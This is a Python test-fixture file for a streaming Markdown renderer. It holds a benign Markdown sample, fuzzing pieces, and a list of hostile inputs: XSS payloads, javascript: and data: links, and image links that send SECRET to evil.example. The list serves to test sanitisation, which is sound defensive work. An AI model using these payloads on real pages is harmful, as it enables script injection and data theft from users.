"""Texts to render: believable ones, broken ones, and pieces to make more of."""

from collections.abc import Iterator

from hypothesis import strategies as st

from ai_assistant.render.markdown import BlockStream

ORDINARY = """\
# Orders of *this* week

There are **12 orders**, of which ***three*** are ~~lost~~ `unpaid`. See [the
list](/admin/shop/order/?paid=0), [the docs](https://docs.example.com/a_b?c=d) or
![a chart](https://img.example.com/chart.png "Chart").

Customers:
- **Ada Lovelace**: `ada@example.com`
- _Grace_ with a [link](https://example.org/x)
  1. first *nested*
  2. second

     More about it.
- [x] done
- [ ] not **done**

| Name | Count | Note |
|:-----|------:|:----:|
| **A** | 1 | `a b` |
| B [l](/b/) | 22 | ~~no~~ |

Text and a table:
| Only |
| ---- |
| one |

```python
def total(rows: list[int]) -> int:
    return sum(rows)
```

> A quote with **bold** text
> and a second line

Setext
------

1. Run `make`:
   ```sh
   make run
   ```
2. Done.

***

Written to <https://example.net/path> and <ada@example.com>. Escaped too.

    indented code

The *end* of **it `all`**
"""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<form action="//evil.example"><input name=a><button>go</button></form>',
    '<a id="aia-form" name="body">clobber</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<!-- --><math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd) [y](blob:x) [z](filesystem:y) [w](intent:z)",
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[r]: <javascript:alert(1)> "t"\n[r] ![r]',
    "[![x](https://evil.example/i.png)](https://evil.example/?q=1)",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    "<https://evil.example/?q=SECRET>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](//evil.example/path)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:/\\evil.example)",
    "[x](http:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://good.example%2f@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    "[https://good.example](https://evil.example)",
    "[x](https://xn--e1awd7f.example) [y](https://\u0435vil.example)",
    '[x](https://e.example "onmouseover=alert(1)")',
    '[x](https://e.example/"onmouseover="alert(1))',
    '[a"onclick="x](b"onclick="y)',
    '```"><script>alert(1)</script>\ncode\n```',
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "~~~<b onclick=x>\nx\n~~~",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:a) | c |",
    '| " onclick="x | b |\n|:-:|---|\n| 1 | 2 |',
    "`<img src=x onerror=alert(1)>`",
    "**<svg onload=alert(1)>**",
    "# <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "- <details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "user\u202etxt.exe \u2066x\u2069 \U000e0041\U000e0042",
    "`a\u202eb` &#x202e; &#8294;x &#xE0041; &#x200B;",
    "[a\u202eb](https://e.example/\u202e)",
    "\x00\x1b[31mred\x1b[0m\x7f\x9b31m &#27;[31m",
    "lone \ud800 and \udfff, [\ud83d](\ude00)",
    "[x](https://e.example/\ud800)",
    "![](https://evil.example/a.png) ![](javascript:a) []() ![]()",
    "[x](#aia-form) [y](?a=1) [z](../up) [m](mailto:a@e.example?subject=x)",
    "[m](mailto:a@e.example,b@evil.example) [n](mailto:)",
]

PIECES = [
    *("# ", "## ", "- ", "* ", "+ ", "1. ", "2) ", "> ", ">", "    ", "\t", "  "),
    *("```", "```py\n", "~~~", "````", "`", "``", "**", "*", "_", "__", "~~", "~"),
    *("[", "]", "](", ")", "(", "![", "<", ">", "\\", "&", "&amp;", "&#x202e;"),
    *("| a | b |", "|---|:-:|", "| 1 |", "|", "---", "===", "***", "- - -", "-"),
    *("[a]: /u", "[a]: /u 't", "[a]:", "[b]: <", "'", '"', "[a]", "[x][a]", "t'"),
    *("[ ] ", "[x] ", "[l](https://e.example/x)", "[l](/u 't')", "![i](/i.png)"),
    *("<b>", "<script>", "<!--", "<https://e.example>", "(javascript:x)", "<br>"),
    *("\n", "\n", "\n", "\n\n", "\r\n", "\r", " ", " \n", "\t\n", "\\\n", "  \n"),
    *("foo", "bar baz", "x = 1", "1", "12.", "ünïcödé", "😀", "👩\u200d🚀", "שלום"),
    *("\u202e", "\u200b", "\x00", "\ud800", "\x1b[1m", "\u2028", "\x0b", "\x0c"),
    *("\u00a0", "\x85", "\ufeff", "\x1c"),
]

texts = st.one_of(
    st.lists(st.sampled_from(PIECES), max_size=30).map("".join),
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=20).map(
        "".join
    ),
)


@st.composite
def chunked(draw: st.DrawFn) -> list[str]:
    """A text in pieces, cut anywhere."""
    text = draw(texts)
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=12))
    ends = [*sorted(cuts), len(text)]
    return [text[a:b] for a, b in zip([0, *ends], ends, strict=False)]


def pieces(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


class Screen:
    """What a page shows that applies the changes and knows nothing else."""

    def __init__(self) -> None:
        self.blocks: list[str] = []
        self.closed: set[int] = set()

    def apply(self, changes, *, last: bool = False) -> None:
        for change in changes:
            assert 0 <= change.index <= len(self.blocks)
            assert last or change.index not in self.closed
            self.blocks[change.index : change.index + 1] = [change.html]
            if change.closed:
                self.closed.add(change.index)


def states(chunks: list[str]) -> Iterator[list[str]]:
    """Yield what is on the screen after each chunk, and at the end."""
    stream, screen = BlockStream(), Screen()
    for chunk in chunks:
        stream.feed(chunk)
        screen.apply(stream.changes())
        yield list(screen.blocks)
    screen.apply(stream.finish(), last=True)
    yield screen.blocks


def finished(chunks: list[str]) -> list[str]:
    *_, last = states(chunks)
    return last
